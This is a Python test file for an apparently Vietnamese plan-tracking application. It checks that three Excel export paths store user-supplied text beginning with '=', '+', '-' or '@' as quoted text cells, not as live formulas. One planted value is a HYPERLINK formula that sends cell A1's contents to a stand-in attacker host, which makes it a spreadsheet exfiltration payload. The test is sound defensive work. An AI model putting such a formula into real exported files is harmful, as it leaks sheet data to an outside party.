"""No workbook theodoi writes turns data into a formula (issue 14 M2), on both backends.

A plan whose title, a target's indicator and a task's title begin with '=HYPERLINK(…)'
(or '+', '-', '@') is exported through every writer: the report appendix, the register
export and the progress template. Read back with openpyxl each such cell is a string
marked as text (quotePrefix), with the data unchanged; the report's own formulas stay
formulas."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook

from tests.services.progress_setup import active_v1
from theodoi.services.progress import records as progress
from theodoi.services.register import review_decisions as review
from theodoi.services.register import units
from theodoi.services.reporting import report_data as reporting
from theodoi.services.spreadsheets import excel
from theodoi.services.spreadsheets.progress_xlsx import progress_template
from theodoi.storage.models import Plan

UNIT = "Xã An Bình"
LINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
PLANTED = {LINK, "+1+2", "-3+4", "@SUM(1,2)", "=1+1"}


def _plant(s: Any) -> Any:
    r = active_v1(s)
    # a 2026 milestone: the year's plan is a bare number, so the row has its '% so với kế
    # hoạch' formula (a term goal "90 (năm 2030)" in words has none)
    review.correct(s, r.income, {"indicator": LINK, "milestones": "2026: 80"})
    review.correct(s, r.poor, {"indicator": "+1+2", "unit": "-3+4"})
    review.correct(s, r.invest, {"title": "@SUM(1,2)"})
    s.get(Plan, r.plan_id).title = "=1+1"
    progress.record_progress(s, r.poor, "Q4/2026", "1,5")
    s.flush()
    return r


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _check(data: bytes, must_see: set[str]) -> list[Any]:
    """The planted values are all there, each a text cell; returns every cell."""
    cells = _cells(data)
    planted = [c for c in cells if isinstance(c.value, str) and c.value in PLANTED]
    assert {c.value for c in planted} >= must_see
    assert [(c.coordinate, c.data_type) for c in planted if c.data_type != "s"] == []
    assert all(c.quotePrefix for c in planted)
    return cells


def test_the_report_appendix_writes_data_as_text_and_keeps_its_formulas(session: Any) -> None:
    _plant(session)
    report = reporting.build_report(session, reporting.Request(UNIT, "quy", "Q4/2026"))
    cells = _check(reporting.render(report, "xlsx"), {LINK, "+1+2", "-3+4", "@SUM(1,2)"})
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert any(f.startswith("=IF(AND(ISNUMBER(") for f in formulas)  # % so với kế hoạch
    assert any(f.startswith("=COUNTIFS(") for f in formulas)
    assert any(f.startswith("=SUM(") for f in formulas)
    assert not any(f in PLANTED for f in formulas)


def test_the_register_export_writes_data_as_text(session: Any) -> None:
    _plant(session)
    data = excel.export_register(session, units.find(session, UNIT))
    cells = _check(data, {LINK, "+1+2", "-3+4", "@SUM(1,2)", "=1+1"})
    assert [c.value for c in cells if c.data_type == "f"] == []


def test_the_progress_template_writes_data_as_text(session: Any) -> None:
    _plant(session)
    economy = _check(progress_template(session, UNIT, "Phòng Kinh tế", "2026"),
                     {LINK, "@SUM(1,2)"})
    social = _check(progress_template(session, UNIT, "Phòng VH-XH", "Q4/2026"),
                    {"+1+2", "-3+4"})
    assert [c for c in economy + social if c.data_type == "f"] == []
